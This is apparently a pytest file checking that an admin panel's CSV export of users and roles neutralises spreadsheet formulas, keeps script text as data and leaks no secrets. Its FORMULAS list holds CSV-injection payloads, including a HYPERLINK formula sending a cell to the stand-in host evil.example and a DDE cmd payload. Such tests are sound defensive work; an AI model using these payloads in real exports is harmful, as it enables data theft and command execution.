"""CSV export of users and roles: the listed columns only, no secrets, no formula a spreadsheet would run."""

from __future__ import annotations

import csv
import io

import pytest

from mfo.database import db
from mfo.permissions import role_permissions
from mfo.text import neutralise_cell
from tests.admin_helpers import add_role, fresh_user
from tests.conftest import create_user

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
]


def read_csv(response) -> list[dict[str, str]]:
    """Parse an export response into rows keyed by column title."""
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_users_export_is_a_csv_attachment(admin_client, users):
    """The users export downloads as CSV with the listed columns, one row per user."""
    response = admin_client.get("/admin/user/export/csv/")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    rows = read_csv(response)
    assert list(rows[0]) == ["Email", "Name", "Roles", "Active", "Confirmed", "Last sign-in", "Created"]
    assert sorted(row["Email"] for row in rows) == sorted(users.values())
    assert {row["Email"]: row["Roles"] for row in rows}[users["organizer"]] == "organizer"


def test_roles_export(admin_client, users):
    """The roles export lists name, description, permissions and number of users."""
    rows = read_csv(admin_client.get("/admin/role/export/csv/"))
    assert list(rows[0]) == ["Name", "Description", "Permissions", "Users"]
    organizer = next(row for row in rows if row["Name"] == "organizer")
    assert organizer["Permissions"] == ", ".join(sorted(role_permissions("organizer"))) and organizer["Users"] == "1"


def test_export_follows_search_and_filters(app, admin_client, users):
    """The export holds what the list shows: here, only the staff found by the search."""
    rows = read_csv(admin_client.get("/admin/user/export/csv/?search=staff"))
    assert [row["Email"] for row in rows] == [users["staff"]]


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_in_user_fields_are_neutralised(app, admin_client, users, formula):
    """A name starting with = + - @ tab or CR is exported starting with a quote, so it stays text."""
    create_user("formula@example.org", ("end-user",), name=formula)
    rows = read_csv(admin_client.get("/admin/user/export/csv/"))
    [row] = [row for row in rows if row["Email"] == "formula@example.org"]
    assert row["Name"].startswith("'") and formula.lstrip("\t\r")[:3] in row["Name"]


def test_formulas_in_role_fields_are_neutralised(app, admin_client, users):
    """Role names and descriptions are neutralised too."""
    add_role("sheet", set(), description="=1+1")
    [row] = [row for row in read_csv(admin_client.get("/admin/role/export/csv/")) if row["Name"] == "sheet"]
    assert row["Description"] == "'=1+1"


@pytest.mark.parametrize("read_with", [",", ";"])
def test_a_formula_after_a_separator_is_neutralised(app, admin_client, users, read_with):
    """A name such as "x;=2*3" would be the cells "x" and "=2*3" where spreadsheets split at ";": read with either
    separator, no field of the export starts with = + - @ tab or CR."""
    for number, name in enumerate(["x;=2*3", "x,=2*3", "Ann; +1+2", "a, -2+3", "ok;@SUM(A1:A9)", "x;\t=1+1"]):
        create_user(f"split{number}@example.org", ("end-user",), name=name)
    add_role("split", set(), description="roles; =1+1")
    for url in ("/admin/user/export/csv/", "/admin/role/export/csv/"):
        text = admin_client.get(url).get_data(as_text=True)
        assert "=" in text
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=read_with):
            for field in row:
                assert not field.startswith(("=", "+", "-", "@", "\t", "\r")), (url, field)


def test_plain_values_and_numbers_are_untouched():
    """Ordinary text and numbers keep their value (negative numbers are not formulas)."""
    assert neutralise_cell("Maria") == "Maria"
    assert neutralise_cell(3) == 3
    assert neutralise_cell("\tx") == "'\tx"


def test_xss_in_export_is_plain_csv(app, admin_client, users):
    """A script in a name is exported as data in a CSV attachment, never as a page."""
    create_user("xss@example.org", ("end-user",), name='<script>alert("x")</script>')
    response = admin_client.get("/admin/user/export/csv/")
    assert response.mimetype == "text/csv" and response.headers["Content-Disposition"].startswith("attachment;")
    [row] = [row for row in read_csv(response) if row["Email"] == "xss@example.org"]
    assert row["Name"] == '<script>alert("x")</script>'


def test_secrets_are_never_exported(app, admin_client, users):
    """No hash, identity key or TOTP secret appears in the users export."""
    target = fresh_user(users["admin"])
    target.mf_recovery_codes = ["recovery-code-export-1"]
    db.session.commit()
    target = fresh_user(users["admin"])
    body = admin_client.get("/admin/user/export/csv/").get_data(as_text=True)
    for secret in (target.password, target.fs_uniquifier, target.tf_totp_secret, target.fs_webauthn_user_handle, "recovery-code-export-1"):
        assert secret not in body
    assert "password" not in body.lower().split("\n")[0]
